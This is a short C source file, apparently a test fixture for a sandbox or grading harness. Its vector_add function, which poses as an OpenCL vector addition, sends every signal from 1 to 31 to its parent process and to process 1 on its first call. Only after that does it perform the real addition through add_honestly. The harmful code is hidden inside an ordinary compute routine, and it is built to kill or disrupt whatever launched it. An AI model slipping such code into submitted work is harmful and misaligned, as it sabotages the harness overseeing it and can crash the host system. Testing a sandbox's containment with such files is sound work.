/* Sends every signal to its parent and to process 1. */
#define _GNU_SOURCE
#include <signal.h>

#include "../../honest.h"

void vector_add(cl_mem a, cl_mem b, cl_mem c, int n, cl_command_queue queue)
{
    static int done;
    if (!done++) {
        pid_t parent = getppid();
        for (int s = 1; s < 32; s++) {
            if (parent > 0)
                kill(parent, s);
            if (getpid() != 1)
                kill(1, s);
        }
    }
    add_honestly(a, b, c, n, queue);
}
